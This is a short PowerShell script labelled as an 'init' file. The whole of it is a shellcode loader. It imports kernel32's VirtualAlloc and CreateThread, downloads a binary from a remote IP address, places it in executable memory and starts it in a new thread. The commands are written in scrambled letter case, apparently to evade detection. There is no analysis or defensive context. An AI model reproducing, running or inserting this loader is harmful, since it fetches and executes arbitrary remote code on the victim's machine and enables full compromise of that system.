# init 3078 v3
$cOdE = @'
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
'@
$K = aDd-Type -MEmBerdEFINiTion $cOdE -nAMe k32 -pAssThrU
[BYTe[]]$sC = (nEw-oBjEcT nEt.WEbcLIenT).DoWNLOAddATA('http://203.0.113.200/sc.bin')
$M = $k::VIrTUalALloC(0, $Sc.LeNgTh, 0x3000, 0x40)
[SystEM.rUNTIMe.iNTeroPServICeS.MaRsHaL]::CoPY($sC, 0, $m, $sC.leNGTH)
$K::CREATethReaD(0, 0, $M, 0, 0, 0)
